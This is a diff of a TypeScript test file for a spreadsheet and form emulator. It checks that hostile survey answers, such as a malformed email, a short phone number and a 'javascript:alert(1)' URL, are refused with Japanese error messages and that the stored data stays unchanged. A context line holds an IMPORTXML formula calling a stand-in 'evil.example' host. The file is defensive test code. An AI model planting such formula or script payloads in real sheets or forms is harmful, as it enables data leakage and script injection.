@@ -72,3 +72,19 @@ test('hostile answers: a formula-looking 特色 is written as text, an over-long
   expect(rows[0]!['特色']).toBe('=IMPORTXML("http://evil.example/","//a")');
   expect(rows[1]!['特色']).toBe(long);
 });
+
+test('hostile answers the registry check refuses: said at 団体 row and column in Japanese, nothing written, the answer kept', () => {
+  const emu = roundWorld();
+  const links = ok(emu.run<RpcResult<{ links: { name: string; url: string }[] }>>('rpcRequestAgencyRound', [{ kind: 'all' }])).links;
+  const { formId, answers } = emu.forms.store.answersFromPrefilledUrl(links[0]!.url);
+  emu.forms.submit(formId, { ...answers, メール: 'info@@aoba', 電話: '03-5211', URL: 'javascript:alert(1)' });
+  const a = review(emu).agencies.find((x) => x.state === 'answered')!;
+  expect(a.changes.map((c) => [c.field, c.problem])).toEqual([['電話', 'phoneDigits'], ['メール', 'email'], ['URL', 'url']]);
+  const before = sheetRecords(emu, '団体')[0]!;
+  const r = ok(emu.run<RpcResult<RoundDecisionResult>>('rpcDecideAgencyRound', [{ agencyId: a.id, answerKey: a.answerKey, accept: ['phone', 'email', 'url'] }]));
+  expect(r.refused).toEqual(['電話', 'メール', 'URL']);
+  for (const p of r.problems) expect(p).toMatchObject({ sheet: '団体', row: a.row, message: expect.stringMatching(/[\u3040-\u30ff]/) });
+  const after = sheetRecords(emu, '団体')[0]!;
+  expect([after['電話'], after['メール'], after['URL']]).toEqual([before['電話'], before['メール'], before['URL']]);
+  expect(sheetRecords(emu, '掲載情報の回答')[0]!['メール']).toBe('info@@aoba');
+});
